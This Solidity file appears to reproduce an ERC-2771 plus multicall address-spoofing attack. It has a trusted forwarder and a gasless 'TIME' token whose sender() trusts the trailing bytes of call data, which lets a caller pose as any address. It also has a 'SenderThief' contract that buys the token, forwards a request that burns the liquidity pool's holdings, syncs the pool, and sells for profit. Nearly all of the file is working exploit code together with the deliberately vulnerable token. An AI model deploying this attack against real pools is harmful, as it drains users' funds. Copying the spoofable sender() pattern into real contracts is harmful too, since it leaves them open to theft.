// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";

struct ForwardRequest {
    address from;
    address to;
    uint256 nonce;
    bytes data;
}

/// Brings what others signed, and says at the end of the call data who they are (ERC-2771).
contract TrustedForwarder {
    mapping(address => uint256) public nonces;

    error BadSignature();

    function digestOf(ForwardRequest calldata request) public view returns (bytes32) {
        bytes32 data = keccak256(request.data);
        return keccak256(abi.encode(address(this), block.chainid, request.from, request.to, request.nonce, data));
    }

    function execute(ForwardRequest calldata request, bytes calldata signature) external returns (bytes memory) {
        if (ECDSA.recover(digestOf(request), signature) != request.from) revert BadSignature();
        require(nonces[request.from]++ == request.nonce, "nonce");
        (bool ok, bytes memory out) = request.to.call(abi.encodePacked(request.data, request.from));
        if (!ok) assembly { revert(add(out, 32), mload(out)) }
        return out;
    }
}

/// A token that can be used without coins, several calls at once. Each of those is a delegate call with the data as it
/// was given, and whoever gave it wrote its end.
contract GaslessToken {
    string public constant name = "TIME";
    string public constant symbol = "TIME";
    uint8 public constant decimals = 18;
    address public immutable forwarder;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address forwarder_, uint256 supply) {
        forwarder = forwarder_;
        (totalSupply, balanceOf[msg.sender]) = (supply, supply);
        emit Transfer(address(0), msg.sender, supply);
    }

    function multicall(bytes[] calldata data) external returns (bytes[] memory results) {
        results = new bytes[](data.length);
        for (uint256 i = 0; i < data.length; i++) {
            (bool ok, bytes memory out) = address(this).delegatecall(data[i]);
            if (!ok) assembly { revert(add(out, 32), mload(out)) }
            results[i] = out;
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[sender()][spender] = value;
        emit Approval(sender(), spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(sender(), to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][sender()] -= value;
        move(from, to, value);
        return true;
    }

    function burn(uint256 value) external {
        balanceOf[sender()] -= value;
        totalSupply -= value;
        emit Transfer(sender(), address(0), value);
    }

    function move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }

    function sender() private view returns (address who) {
        if (msg.sender != forwarder || msg.data.length < 24) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }
}

/// Buys, has the pool burn what it holds, and sells.
contract SenderThief {
    function run(
        TrustedForwarder forwarder,
        ForwardRequest calldata request,
        bytes calldata signature,
        Pool pool,
        address payable payee
    ) external payable {
        GaslessToken token = GaslessToken(request.to);
        Shop.buy(pool, msg.value);
        forwarder.execute(request, signature);
        pool.sync();
        uint256 amount = token.balanceOf(address(this));
        token.approve(address(pool), amount);
        bool zero = address(pool.token0()) == request.to;
        Shop.WETH.withdraw(pool.sell(zero ? pool.token0() : pool.token1(), amount, address(this)));
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
